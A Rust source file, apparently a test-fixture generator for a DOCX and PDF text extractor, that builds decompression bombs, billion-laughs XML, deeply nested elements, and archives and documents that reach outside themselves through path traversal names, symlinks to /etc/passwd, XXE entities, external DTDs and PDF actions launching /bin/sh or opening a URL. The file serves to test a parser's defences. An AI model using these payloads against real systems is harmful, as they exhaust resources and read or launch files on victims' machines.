//! Files that unpack to far more than they are, and archives that reach out of themselves.

use std::io::{Cursor, Write};

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

use super::advisories::{Attack, attack};
use super::crafted::{Crafted, stream};
use super::docx::{docx, docx_bomb, docx_package, docx_with, paragraph};

/// Forty bombs, none of which yields a text.
#[must_use]
pub fn bombs() -> Vec<Attack> {
    [deflated(), filtered(), archives(), entities(), elements()].concat()
}

/// What a writer of archives makes of zeros.
fn packed(bytes: usize) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    writer.start_file("x", options).expect("memory can be written to");
    let block = vec![b' '; 1 << 20];
    for _ in 0..bytes >> 20 {
        writer.write_all(&block).expect("memory can be written to");
    }
    let archive = writer.finish().expect("memory can be written to").into_inner();
    // The data of the only entry: after its head and name, and before the directory.
    let end = archive.windows(4).rposition(|window| window == b"PK\x01\x02").unwrap_or(archive.len());
    archive[31..end].to_vec()
}

/// Deflated data as `FlateDecode` has it: with two bytes before and a checksum that readers don't mind.
fn flate(bytes: usize) -> Vec<u8> {
    [&[0x78, 0x9c][..], &packed(bytes), &[0; 4]].concat()
}

fn deflated() -> Vec<Attack> {
    let sizes = [80, 120, 240, 480];
    let mut all = Vec::new();
    for size in sizes {
        let data = flate(size << 20);
        let streamed = |entries: &str| stream(&format!("/Filter/FlateDecode{entries}"), &data);
        all.push(attack(format!("a document of {size} MB"), docx_bomb(size << 20)));
        all.push(attack(
            format!("a form of {size} MB"),
            Crafted::page("/X Do")
                .resources("/XObject<</X 6 0 R>>")
                .with(streamed("/Subtype/Form/BBox[0 0 9 9]"))
                .build(),
        ));
        let content = Crafted { page: "/Contents 6 0 R".to_owned(), ..Crafted::default() };
        all.push(attack(format!("a page of {size} MB"), content.with(streamed("")).build()));
    }
    all
}

fn filtered() -> Vec<Attack> {
    let page = |filters: &str, data: &[u8]| {
        let made = Crafted { page: "/Contents 6 0 R".to_owned(), ..Crafted::default() };
        made.with(stream(filters, data)).build()
    };
    let twice = {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
        writer.start_file("x", options).expect("memory can be written to");
        writer.write_all(&flate(300 << 20)).expect("memory can be written to");
        let archive = writer.finish().expect("memory can be written to").into_inner();
        let end = archive.windows(4).rposition(|window| window == b"PK\x01\x02").unwrap_or(archive.len());
        [&[0x78, 0x9c][..], &archive[31..end], &[0; 4]].concat()
    };
    let runs = b"\x81x".repeat(4 << 20);
    vec![
        attack("packed twice", page("/Filter[/FlateDecode/FlateDecode]", &twice)).heavy(),
        attack("runs of runs", page("/Filter[/RunLengthDecode/RunLengthDecode/RunLengthDecode]", &runs)),
        attack("a thousand filters", page(&format!("/Filter[{}]", "/ASCIIHexDecode".repeat(1_000)), b"41>")),
        attack(
            "rows of a thousand million columns",
            page("/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1000000000/Colors 4>>", &flate(8 << 20)),
        ),
    ]
}

/// Entries as the directory and their heads tell of them, whatever is true.
#[derive(Debug, Clone)]
struct Entry<'a> {
    name: &'a str,
    data: Vec<u8>,
    method: u16,
    claims: u32,
    mode: u32,
    /// Lies where the first entry lies.
    overlaps: bool,
}

impl<'a> Entry<'a> {
    fn stored(name: &'a str, data: &[u8]) -> Self {
        let claims = u32::try_from(data.len()).unwrap_or(u32::MAX);
        Self { name, data: data.to_vec(), method: 0, claims, mode: 0o100_644, overlaps: false }
    }
}

/// An archive by hand: what no writer would make.
fn by_hand(entries: &[Entry<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    let mut first = None;
    for entry in entries {
        let size = u32::try_from(entry.data.len()).unwrap_or(u32::MAX).to_le_bytes();
        let name = u16::try_from(entry.name.len()).unwrap_or(0).to_le_bytes();
        let facts = [
            &entry.method.to_le_bytes()[..],
            &[0; 4],
            &crc(&entry.data).to_le_bytes(),
            &size,
            &entry.claims.to_le_bytes(),
            &name,
        ]
        .concat();
        let place = match first {
            Some(place) if entry.overlaps => place,
            _ => out.len(),
        };
        first.get_or_insert(place);
        if !entry.overlaps {
            out.extend([&b"PK\x03\x04\x14\0\0\0"[..], &facts, &[0; 2], entry.name.as_bytes(), &entry.data].concat());
        }
        let place = u32::try_from(place).unwrap_or(0).to_le_bytes();
        let mode = (entry.mode << 16).to_le_bytes();
        directory.extend(
            [&b"PK\x01\x02\x14\x03\x14\0\0\0"[..], &facts, &[0; 8], &mode, &place, entry.name.as_bytes()].concat(),
        );
    }
    let (count, start) =
        (u16::try_from(entries.len()).unwrap_or(0).to_le_bytes(), u32::try_from(out.len()).unwrap_or(0));
    let size = u32::try_from(directory.len()).unwrap_or(0).to_le_bytes();
    out.extend(directory);
    out.extend([&b"PK\x05\x06\0\0\0\0"[..], &count, &count, &size, &start.to_le_bytes(), &[0; 2]].concat());
    out
}

fn crc(data: &[u8]) -> u32 {
    let step = |sum: u32, byte: &u8| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| if sum & 1 == 1 { sum >> 1 ^ 0xedb8_8320 } else { sum >> 1 })
    };
    !data.iter().fold(u32::MAX, step)
}

const BODY: &[u8] = b"<w:document xmlns:w='x'><w:body><w:p><w:r><w:t>Jane</w:t></w:r></w:p></w:body></w:document>";

fn archives() -> Vec<Attack> {
    let zeros = packed(64 << 20);
    let body = || Entry::stored("word/document.xml", BODY);
    let huge = Entry { method: 8, claims: u32::MAX, ..Entry::stored("word/media/a.png", &zeros) };
    let main = Entry { method: 8, claims: u32::MAX, ..Entry::stored("word/document.xml", &zeros) };
    let lies = Entry { method: 8, claims: 10, ..Entry::stored("word/document.xml", &zeros) };
    let names: Vec<String> = (0..900).map(|number| format!("word/media/{number}.png")).collect();
    let kernel = Entry { method: 8, claims: 64 << 20, ..Entry::stored("word/media/kernel", &zeros) };
    let overlapping: Vec<Entry<'_>> = std::iter::once(kernel.clone())
        .chain(names.iter().map(|name| Entry { name, overlaps: true, ..kernel.clone() }))
        .chain([body()])
        .collect();
    let many: Vec<(String, String)> =
        (0..1_200).map(|number| (format!("word/{number}.xml"), "<x/>".to_owned())).collect();
    // An archive whose only entry is, but for its head, the archive: it unpacks to itself for ever.
    let inner = docx(&["Jane"]);
    let matryoshka = (0..8).fold(inner, |inner, _| by_hand(&[Entry::stored("r.zip", &inner)]));
    vec![
        attack("a picture that claims four gigabytes", by_hand(&[body(), huge])),
        attack("a body that claims four gigabytes", by_hand(&[main])),
        attack("a body that claims ten bytes and has 64 MB", by_hand(&[lies])),
        attack("nine hundred entries over one kernel", by_hand(&overlapping)),
        attack("two bodies at one place", by_hand(&[body(), Entry { overlaps: true, ..body() }])),
        attack("twelve hundred entries", docx_package(&many)),
        attack("archives in archives", matryoshka),
    ]
}

fn entities() -> Vec<Attack> {
    let document = |head: &str, text: &str| {
        let xml = format!(
            "<?xml version=\"1.0\"?>{head}<w:document xmlns:w='x'><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
        );
        docx_package(&[("word/document.xml".to_owned(), xml)])
    };
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let blow = "x".repeat(200_000);
    vec![
        attack("a thousand million laughs", document(&format!("<!DOCTYPE x [<!ENTITY l0 \"ha\">{laughs}]>"), "&l9;")),
        attack(
            "one long entity, often",
            document(&format!("<!DOCTYPE x [<!ENTITY a \"{blow}\">]>"), &"&a;".repeat(20_000)),
        ),
        attack("entities of parameters", document("<!DOCTYPE x [<!ENTITY % a '<!ENTITY b \"c\">'>%a;]>", "&b;")),
        attack("an entity of itself", document("<!DOCTYPE x [<!ENTITY a \"&a;\">]>", "&a;")),
        attack("an entity that nothing defines", document("", "&a;")),
    ]
}

fn elements() -> Vec<Attack> {
    let deep = |name: &str, depth: usize| {
        docx_with(&format!("{}{}", format!("<w:{name}>").repeat(depth), format!("</w:{name}>").repeat(depth)), &[])
    };
    let attributes = |count: usize| {
        let all: String = (0..count).map(|number| format!(" a{number}='1'")).collect();
        docx_with(&format!("<w:p{all}><w:r><w:t>Jane</w:t></w:r></w:p>"), &[])
    };
    let cells = format!("<w:tbl><w:tr>{}</w:tr></w:tbl>", "<w:tc/>".repeat(3_000_000));
    vec![
        attack("ten thousand tags in each other", deep("sdt", 10_000)),
        attack("three hundred thousand tags in each other", deep("sdt", 300_000)),
        attack("ten thousand tables in each other", deep("tbl", 10_000)),
        attack("ten thousand runs in each other", deep("r", 10_000)),
        attack("800,000 attributes", attributes(800_000)),
        attack("a thousand attributes", attributes(1_000)),
        attack("the same attribute again and again", docx_with(&format!("<w:p{}/>", " a='1'".repeat(400_000)), &[])),
        attack("three million cells", docx_with(&cells, &[])),
        attack("six megabytes of text", docx_with(&paragraph(&"Jane Example ".repeat(480_000)), &[])),
        attack("tags that are never closed", docx_with(&"<w:p>".repeat(200_000), &[])),
        attack(
            "a styles part nested without end",
            docx_with(&paragraph("Jane"), &[("word/header1.xml", &"<w:p>".repeat(20_000))]),
        ),
        attack("a name of a megabyte", docx_with(&format!("<w:{0}></w:{0}x>", "n".repeat(1 << 20)), &[])),
    ]
}

/// Twenty archives and documents that reach for other files or for the network at `address`. What lies inside
/// may be read; nothing outside may be touched.
#[must_use]
pub fn reaching_files(address: &str) -> Vec<Attack> {
    let body = || Entry::stored("word/document.xml", BODY);
    let named =
        |name: &str| attack(format!("an entry called {name:?}"), by_hand(&[body(), Entry::stored(name, b"<x/>")]));
    let link = |name: &str, to: &str| {
        attack(
            format!("a link to {to}"),
            by_hand(&[body(), Entry { mode: 0o120_777, ..Entry::stored(name, to.as_bytes()) }]),
        )
    };
    let with = |name: &str, part: &str, content: String| {
        attack(
            name,
            docx_package(&[
                ("word/document.xml".to_owned(), String::from_utf8_lossy(BODY).into_owned()),
                (part.to_owned(), content),
            ]),
        )
    };
    let relations = |target: &str, kind: &str| {
        format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://x/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let url = format!("http://{address}/t");
    let dtd = |head: String| with("a declaration that reaches out", "word/styles.xml", head);
    let pdf = |name: &str, catalog: String| {
        attack(name, Crafted { catalog, ..Crafted::page("BT /F1 9 Tf 56 700 Td (Jane) Tj ET") }.build())
    };
    let mut all: Vec<Attack> = [
        "../outside.xml",
        "/tmp/outside.xml",
        "word/../../../outside.xml",
        "C:\\outside.xml",
        "..\\outside.xml",
        "word/\u{0}.xml",
        "\\\\host\\share",
    ]
    .into_iter()
    .map(named)
    .collect();
    all.extend([
        link("word/styles.xml", "/etc/passwd"),
        link("word/media", "/tmp"),
        with("an attached template", "word/_rels/settings.xml.rels", relations(&url, "attachedTemplate")),
        with("a header elsewhere", "word/_rels/document.xml.rels", relations(&url, "header")),
        with("a picture elsewhere", "word/_rels/document.xml.rels", relations(&format!("file://{url}"), "image")),
        with(
            "an object elsewhere",
            "word/_rels/document.xml.rels",
            relations(&format!("\\\\{address}\\x"), "oleObject"),
        ),
        dtd(format!("<!DOCTYPE x SYSTEM \"{url}\"><x/>")),
        dtd("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>".to_owned()),
        attack(
            "a body that reaches out",
            docx_package(&[("word/document.xml".to_owned(), format!("<!DOCTYPE x SYSTEM \"{url}\"><x/>"))]),
        ),
        pdf("an action at opening", format!("/OpenAction<</S/URI/URI({url})>>")),
        pdf("a form that is sent", format!("/OpenAction<</S/SubmitForm/F({url})>>")),
        pdf("a program that is started", "/OpenAction<</S/Launch/F(/bin/sh)>>".to_owned()),
        pdf("a script", format!("/OpenAction<</S/JavaScript/JS(app.launchURL\\('{url}'\\))>>")),
    ]);
    let elsewhere = Crafted::page("/X Do BT /F1 9 Tf 56 700 Td (Jane) Tj ET").resources("/XObject<</X 6 0 R>>");
    let outside =
        elsewhere.with(stream(&format!("/Subtype/Form/BBox[0 0 9 9]/F(/etc/passwd)/FFilter/None/URL({url})"), b"q Q"));
    all.push(attack("a stream in another file", outside.build()));
    all
}
